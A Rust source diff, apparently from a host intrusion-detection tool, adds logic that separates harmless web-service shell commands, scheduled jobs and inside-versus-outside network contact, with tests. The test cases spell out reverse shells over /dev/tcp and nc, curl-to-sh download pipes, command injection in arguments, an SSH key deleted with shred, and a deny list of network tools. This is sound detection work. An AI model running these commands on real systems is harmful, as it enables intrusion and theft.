@@ -514,6 +514,27 @@ pub fn unattended(ev: &FlatEvent) -> bool {
     false
 }
 
+/// Whether the process is a job nobody entered and no service runs: no controlling
+/// terminal, and walking up its lineage a scheduler, an init or a CI runner comes before
+/// any login, container runtime or service (a cron job, an agent started by init). Narrower
+/// than [`unattended`]: a service's own child (which a web shell is) is not a job.
+pub fn scheduled_job(ev: &FlatEvent) -> bool {
+    if int(ev, "proc.tty").is_some_and(|t| t != 0) {
+        return false;
+    }
+    for (level, name, _) in lineage(ev) {
+        if level == 0 {
+            continue;
+        }
+        match role(&name) {
+            Role::Login | Role::Runtime | Role::Service => return false,
+            Role::Scheduler | Role::Init | Role::CiRunner => return true,
+            _ => {}
+        }
+    }
+    false
+}
+
 /// Whether the process runs as a system account: a name from [`SYSTEM_ACCOUNTS`], or a uid
 /// from 1 to 999 (or 65534), unless the login uid shows a person who changed user
 /// (`sudo -u postgres` by an admin).
@@ -615,6 +636,110 @@ pub fn actor(ev: &FlatEvent) -> Actor {
     a
 }
 
+/// Programs a service's shell may not run for its command to count as plain: they reach
+/// the network, start another shell or interpreter, or open a remote session.
+fn reaches_out_or_nests(word: &str) -> bool {
+    let base = word.rsplit('/').next().unwrap_or(word);
+    // An interpreter by its exact name, with a version at most (`python3.11`, `php8.2`),
+    // not any word that starts like one (PHP's upload files are `/tmp/phpXXXXXX`).
+    let interpreter = ["python", "php", "perl", "ruby", "node", "lua"]
+        .iter()
+        .any(|i| {
+            base.strip_prefix(i)
+                .is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
+        })
+        || INTERPRETERS.contains(&base);
+    SHELLS.contains(&base)
+        || interpreter
+        || DOWNLOADERS.contains(&base)
+        || NET_TOOLS.contains(&base)
+        || matches!(base, "ssh" | "openssl" | "xterm")
+}
+
+/// Directories the system's own programs live in.
+const SYSTEM_BIN_DIRS: &[&str] = &[
+    "/usr/bin/",
+    "/bin/",
+    "/usr/sbin/",
+    "/sbin/",
+    "/usr/libexec/",
+    "/usr/local/bin/",
+];
+
+/// The command a service's shell ran, when it is *plain*: the process is a shell started
+/// right below the service (`php-fpm → sh -c CMD`), this event is its start (`execve`),
+/// and `CMD` is one simple command of the system's own: no second command, pipe,
+/// substitution, variable, grouping or redirection (except to `/dev/null` and `2>&1`), no
+/// URL or `/dev/tcp`, neither its program nor any of its words a shell, an interpreter, a
+/// download or network tool, and the program a bare name or under a system directory. A
+/// web application's mail or image conversion is plain; `curl … | sh`,
+/// `bash -i >& /dev/tcp/…`, `nc -e`, `/tmp/x` are not. Only the shell's own start is
+/// weighed so: an alert on the program it runs, or on what that program does (a log
+/// cleared, a process traced, `shred` run), means the command itself is flagged, and the
+/// shell-out is not an application's design. `None` when there is no service's shell or it
+/// is not plain.
+pub fn plain_service_command(ev: &FlatEvent) -> Option<String> {
+    if !is_exec(ev) {
+        return None;
+    }
+    let lin = lineage(ev);
+    let svc = lin
+        .iter()
+        .position(|(l, n, _)| *l > 0 && role(n) == Role::Service)?;
+    let shell_at = svc.checked_sub(1)?;
+    let (shell_level, shell_name, _) = lin.get(shell_at)?;
+    if *shell_level != 0 || role(shell_name) != Role::Shell {
+        return None;
+    }
+    let cmdline = text(ev, "proc.cmdline")?;
+    let (_, rest) = cmdline.split_once(" -c ")?;
+    let cmd = rest.trim().trim_matches(|c| c == '"' || c == '\'');
+    // Harmless redirections are set aside; anything else that is not a plain word fails.
+    let words: Vec<&str> = cmd
+        .split_whitespace()
+        .filter(|w| {
+            !matches!(
+                *w,
+                "2>&1" | ">/dev/null" | "2>/dev/null" | "1>/dev/null" | "&>/dev/null"
+            )
+        })
+        .collect();
+    let mut kept: Vec<&str> = Vec::new();
+    let mut i = 0;
+    while i < words.len() {
+        // `> /dev/null`, `2> /dev/null`
+        if matches!(words[i], ">" | "2>" | "1>" | "&>") && words.get(i + 1) == Some(&"/dev/null") {
+            i += 2;
+            continue;
+        }
+        kept.push(words[i]);
+        i += 1;
+    }
+    const META: &[char] = &[
+        ';', '&', '|', '<', '>', '`', '$', '(', ')', '{', '}', '\n', '\\',
+    ];
+    let first = *kept.first()?;
+    if first.contains('=') {
+        return None; // an assignment before the command (`LD_PRELOAD=… cmd`)
+    }
+    if kept.iter().any(|w| {
+        w.contains(META)
+            || w.contains("://")
+            || w.contains("/dev/tcp")
+            || w.contains("/dev/udp")
+            || reaches_out_or_nests(w.trim_matches(|c| c == '"' || c == '\''))
+    }) {
+        return None;
+    }
+    if first.contains('/') && !SYSTEM_BIN_DIRS.iter().any(|d| first.starts_with(d)) {
+        return None;
+    }
+    if first.contains("/../") || in_drop_dir(first) {
+        return None;
+    }
+    Some(kept.join(" "))
+}
+
 /// The kind of a session event, for context.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub enum Activity {
@@ -639,6 +764,40 @@ pub enum Activity {
     CredentialRead(String, String),
     /// A known-maintenance program ran (catalogue actor): its name.
     Maintenance(String),
+    /// Contact with another host that is not weighed on its own: an upload, a request
+    /// whose body is discarded, a copy to a remote host, or an ordinary client's connection
+    /// to a public address: (destination, program, outside). `outside` is false for an
+    /// address inside the host or its private networks (see [`host_is_outside`]). It only
+    /// tells whether data may have left the site (a scheduled job's credential read).
+    Contact(String, String, bool),
+}
+
+/// Whether a host (an address or a name, from a URL or a `host:path` argument) may be
+/// outside the site: an address not [`is_inside`], or any name but `localhost` (a name is
+/// not resolved: unknown counts as outside).
+pub fn host_is_outside(host: &str) -> bool {
+    let h = host.trim_matches(|c| c == '[' || c == ']');
+    match h.parse::<IpAddr>() {
+        Ok(ip) => !is_inside(&ip),
+        Err(_) => !is_loopback_host(&h.to_ascii_lowercase()),
+    }
+}
+
+/// The remote hosts of a `scp`/`rsync`/`sftp` command line (`[user@]host:path`, URLs).
+fn remote_hosts(cmd: &str) -> Vec<String> {
+    let mut out = url_hosts(cmd);
+    for w in cmd.split_whitespace().skip(1) {
+        if w.starts_with('-') || w.starts_with('/') || w.starts_with('.') || w.contains("://") {
+            continue;
+        }
+        if let Some((h, _)) = w.split_once(':') {
+            let h = h.rsplit_once('@').map_or(h, |(_, h)| h);
+            if !h.is_empty() {
+                out.push(h.to_ascii_lowercase());
+            }
+        }
+    }
+    out
 }
 
 fn is_exec(ev: &FlatEvent) -> bool {
@@ -859,6 +1018,11 @@ pub fn activity(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option
                     if copies_from_remote(&cmd) {
                         return Some(Activity::Download(name, cmd));
                     }
+                    let hosts = remote_hosts(&cmd);
+                    if !hosts.is_empty() {
+                        let outside = hosts.iter().any(|h| host_is_outside(h));
+                        return Some(Activity::Contact(hosts.join(","), name, outside));
+                    }
                 }
                 _ => {
                     let hosts = url_hosts(&cmd);
@@ -874,6 +1038,11 @@ pub fn activity(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option
                             // A health check or a local API call: weighed only if a shell
                             // reads it.
                             return Some(Activity::FetchToStdout(name, cmd));
+                        }
+                        None if !hosts.is_empty() => {
+                            // An upload or a request whose body is discarded.
+                            let outside = hosts.iter().any(|h| host_is_outside(h));
+                            return Some(Activity::Contact(hosts.join(","), name, outside));
                         }
                         _ => {}
                     }
@@ -918,6 +1087,13 @@ pub fn activity(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option
             return Some(Activity::Outbound(
                 text(ev, "fd.name").unwrap_or_else(|| ip.to_string()),
                 name,
+            ));
+        }
+        if !is_inside(&ip) {
+            return Some(Activity::Contact(
+                text(ev, "fd.name").unwrap_or_else(|| ip.to_string()),
+                name,
+                true,
             ));
         }
         return None;
@@ -1137,12 +1313,16 @@ mod tests {
             "curl",
             "curl -fsS http://localhost:8080/healthz"
         )));
+        let contact = |a: Option<Activity>| match a {
+            Some(Activity::Contact(_, _, outside)) => Some(outside),
+            _ => None,
+        };
         assert_eq!(
-            exec(
+            contact(exec(
                 "curl",
                 "curl -s -o /dev/null -w %{http_code} http://127.0.0.1/health"
-            ),
-            None
+            )),
+            Some(false)
         );
         // Uploads to a backup server.
         for up in [
@@ -1152,8 +1332,20 @@ mod tests {
             "curl -d @/var/backups/meta.json https://backup.example.com/",
             "curl --data-binary @/var/backups/db.gz https://backup.example.com/",
         ] {
-            assert_eq!(exec("curl", up), None, "{up}");
+            assert_eq!(contact(exec("curl", up)), Some(true), "{up}");
         }
+        // The same upload to the site's own backup server is contact inside the site.
+        assert_eq!(
+            contact(exec(
+                "curl",
+                "curl -T /var/backups/db.gz http://10.0.4.7:8000/up/"
+            )),
+            Some(false)
+        );
+        assert_eq!(
+            contact(exec("curl", "curl -F f=@/b.gz http://localhost:8000/up/")),
+            Some(false)
+        );
         // Fetches that write a file.
         assert!(dl(exec("curl", "curl -sSLo /tmp/x https://evil.example/x")));
         assert!(dl(exec("curl", "curl -O https://evil.example/x")));
@@ -1165,8 +1357,15 @@ mod tests {
         assert!(stdout(exec("wget", "wget -qO- https://evil.example/x.sh")));
         assert!(dl(exec("scp", "scp user@host:/srv/x /tmp/x")));
         assert_eq!(
-            exec("rsync", "rsync -a /var/backups/ backup.example.com:/srv/b/"),
-            None
+            contact(exec(
+                "rsync",
+                "rsync -a /var/backups/ backup.example.com:/srv/b/"
+            )),
+            Some(true)
+        );
+        assert_eq!(
+            contact(exec("scp", "scp /var/backups/db.gz ops@10.0.4.7:/srv/b/")),
+            Some(false)
         );
         // A shell reading its program from a pipe.
         assert!(matches!(
@@ -1186,7 +1385,16 @@ mod tests {
             let j = serde_json::json!({"evt.type":"connect","evt.rawres":0,"proc.name":name,"fd.name":fd});
             activity(&ev(&j.to_string()), &|_| false)
         };
-        assert_eq!(conn("curl", "10.0.0.2:41234->203.0.113.9:443"), None);
+        // An ordinary client to a common port: not weighed, but contact outside the site.
+        assert_eq!(
+            conn("curl", "10.0.0.2:41234->203.0.113.9:443"),
+            Some(Activity::Contact(
+                "10.0.0.2:41234->203.0.113.9:443".into(),
+                "curl".into(),
+                true
+            ))
+        );
+        assert_eq!(conn("curl", "10.0.0.2:41234->10.0.4.7:443"), None);
         assert!(conn("bash", "10.0.0.2:41234->203.0.113.9:443").is_some());
         assert!(conn("python3", "10.0.0.2:41234->203.0.113.9:443").is_some());
         assert!(conn("nc", "10.0.0.2:41234->203.0.113.9:443").is_some());
@@ -1334,6 +1542,86 @@ mod tests {
             system_account(&ev(r#"{"user.name":"alice","user.uid":1000}"#)),
             None
         );
+    }
+
+    #[test]
+    fn plain_commands_of_a_services_shell() {
+        let p = |j: serde_json::Value| plain_service_command(&ev(&j.to_string()));
+        // The shell itself, right below the service, running one system command.
+        assert_eq!(
+            p(
+                serde_json::json!({"evt.type":"execve","proc.name":"sh","proc.pname":"php-fpm","proc.cmdline":"sh -c /usr/sbin/sendmail -t -i"})
+            )
+            .as_deref(),
+            Some("/usr/sbin/sendmail -t -i")
+        );
+        assert!(p(serde_json::json!({"evt.type":"execve","proc.name":"sh","proc.pname":"apache2","proc.cmdline":"sh -c convert /tmp/phpQk8s2L -resize 320x320 /var/www/g/t/img_1.jpg 2>&1"})).is_some());
+        assert!(p(serde_json::json!({"evt.type":"execve","proc.name":"sh","proc.pname":"apache2","proc.cmdline":"sh -c convert a.png -resize 10x10 b.png > /dev/null"})).is_some());
+        // The program the shell ran, even the system's own, is flagged for what it is.
+        assert!(p(serde_json::json!({"evt.type":"execve","proc.name":"shred","proc.exepath":"/usr/bin/shred","proc.pname":"sh","proc.aname[2]":"apache2","proc.pcmdline":"sh -c shred -u /home/ops/.ssh/id_rsa"})).is_none());
+        // Not plain: downloads, pipes into a shell, /dev/tcp, nested shells, network tools,
+        // several commands, substitutions, variables, files written, programs from elsewhere.
+        for cmd in [
+            "sh -c curl -s http://203.0.113.31/s.sh | sh",
+            "sh -c convert 'https://x\";bash -c \"bash -i >& /dev/tcp/198.51.100.60/443 0>&1' out.png",
+            "sh -c bash -i",
+            "sh -c nc -e /bin/sh 198.51.100.1 4444",
+            "sh -c sendmail x; cat /etc/passwd",
+            "sh -c convert $(id) x",
+            "sh -c echo x > /var/www/html/s.php",
+            "sh -c /tmp/sendmail -t -i",
+            "sh -c /var/www/uploads/x",
+            "sh -c python3 -c 'import pty'",
+            "sh -c env bash",
+            "sh -c LD_PRELOAD=/tmp/x.so convert a b",
+            "sh -c wget http://203.0.113.9/x",
+            "sh",
+            "sh -i",
+        ] {
+            let j = serde_json::json!({"evt.type":"execve","proc.name":"sh","proc.pname":"httpd","proc.cmdline":cmd});
+            assert_eq!(p(j), None, "{cmd}");
+        }
+        // What the command does after its start (here a write it makes) is not plain.
+        assert!(p(serde_json::json!({"evt.type":"openat","proc.name":"sh","proc.pname":"apache2","proc.cmdline":"sh -c convert a.png -resize 10x10 b.png","fd.name":"b.png"})).is_none());
+        // A shell deeper than right below the service, or no service at all.
+        assert!(p(serde_json::json!({"evt.type":"execve","proc.name":"cat","proc.exepath":"/usr/bin/cat","proc.pname":"sh","proc.aname[2]":"sh","proc.aname[3]":"httpd","proc.pcmdline":"sh -c cat x"})).is_none());
+        assert!(p(serde_json::json!({"evt.type":"execve","proc.name":"sh","proc.pname":"bash","proc.cmdline":"sh -c convert a b"})).is_none());
+    }
+
+    #[test]
+    fn scheduled_jobs_are_entered_by_nobody_and_run_no_service() {
+        for j in [
+            r#"{"proc.name":"tar","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"cron"}"#,
+            r#"{"proc.name":"nc","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"telegraf","proc.aname[3]":"systemd"}"#,
+            r#"{"proc.name":"make","proc.tty":0,"proc.pname":"gitlab-runner"}"#,
+        ] {
+            assert!(scheduled_job(&ev(j)), "{j}");
+        }
+        for j in [
+            // a service's child (a web shell), a person, a runtime exec, nothing known
+            r#"{"proc.name":"cat","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"php-fpm","proc.aname[3]":"systemd"}"#,
+            r#"{"proc.name":"tar","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"cron"}"#,
+            r#"{"proc.name":"tar","proc.tty":0,"proc.pname":"bash","proc.aname[2]":"sshd","proc.aname[3]":"systemd"}"#,
+            r#"{"proc.name":"tar","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"runc"}"#,
+            r#"{"proc.name":"tar","proc.tty":0,"proc.pname":"bash"}"#,
+        ] {
+            assert!(!scheduled_job(&ev(j)), "{j}");
+        }
+    }
+
+    #[test]
+    fn hosts_inside_and_outside_the_site() {
+        for h in ["10.0.4.7", "127.0.0.1", "localhost", "[::1]", "192.168.3.2"] {
+            assert!(!host_is_outside(h), "{h}");
+        }
+        for h in [
+            "203.0.113.9",
+            "backup.example.com",
+            "evil.example",
+            "[2001:db8::1]",
+        ] {
+            assert!(host_is_outside(h), "{h}");
+        }
     }
 
     #[test]
